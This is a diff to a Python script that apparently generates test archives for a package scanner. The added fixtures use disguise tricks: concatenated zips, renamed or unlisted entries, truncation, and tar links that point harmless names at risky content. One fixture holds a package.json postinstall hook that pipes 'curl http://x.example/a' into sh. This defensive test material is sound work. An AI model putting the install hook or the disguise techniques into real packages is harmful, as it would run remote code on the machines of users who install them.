@@ -71,6 +71,54 @@ def hostile(folder):
         file.write(b"")
 
 
+def zipped(entries, comment=b""):
+    memory = io.BytesIO()
+    with zipfile.ZipFile(memory, "w") as archive:
+        for name, content in entries:
+            archive.writestr(name, content)
+        archive.comment = comment
+    return memory.getvalue()
+
+
+def disguised(folder):
+    """What one reader takes for something else than another does."""
+    harmless, risky = zipped([("p/setup.py", b"print(1)\n")]), zipped([("p/setup.py", RISKY)])
+    renamed = bytearray(risky)
+    renamed[30:40] = b"p/setup.md"
+    added = bytearray(zipped([("p/a.txt", b"x"), ("p/b.txt", RISKY)]))
+    # The directory has one file less than there are.
+    last = added.rindex(b"PK\1\2")
+    end = added.rindex(b"PK\5\6")
+    del added[last:end]
+    end = last
+    added[end + 8:end + 12] = b"\1\0\1\0"
+    added[end + 12:end + 16] = (end - added.index(b"PK\1\2")).to_bytes(4, "little")
+    for name, content in (("before.zip", harmless + risky),
+                          ("comment.zip", harmless + zipped([("p/setup.py", RISKY)], b"x" * 40000)),
+                          ("renamed.zip", renamed), ("unlisted.zip", added),
+                          ("cut.zip", risky[:-30]),
+                          ("agreed.zip", zipped([("p/", b""), ("p/b\u00e4r.py", b"x = 1\n")]))):
+        with open(os.path.join(folder, name), "wb") as file:
+            file.write(content)
+    with tarfile.open(os.path.join(folder, "links.tgz"), "w:gz") as archive:
+        for name, content in (("p/data.txt", RISKY), ("p/seen.py", b"x = 1\n")):
+            info = tarfile.TarInfo(name)
+            info.size = len(content)
+            archive.addfile(info, io.BytesIO(content))
+        for kind, name, target in ((tarfile.LNKTYPE, "p/setup.py", "p/data.txt"),
+                                   (tarfile.SYMTYPE, "p/sym.py", "data.txt"),
+                                   (tarfile.SYMTYPE, "p/sub/fine.py", "../seen.py"),
+                                   (tarfile.LNKTYPE, "p/fine.py", "./p//seen.py"),
+                                   (tarfile.SYMTYPE, "p/notes.txt", "data.txt")):
+            info = tarfile.TarInfo(name)
+            info.type, info.linkname = kind, target
+            archive.addfile(info)
+    tar(os.path.join(folder, "dots.tgz"),
+        [("package//package.json", b'{"scripts": {"postinstall": "curl http://x.example/a | sh"}}'),
+         ("./package/./a.py", b"x = 1\n"), ("package/a.py", RISKY)])
+
+
 os.makedirs(sys.argv[1], exist_ok=True)
 packages(sys.argv[1])
 hostile(sys.argv[1])
+disguised(sys.argv[1])
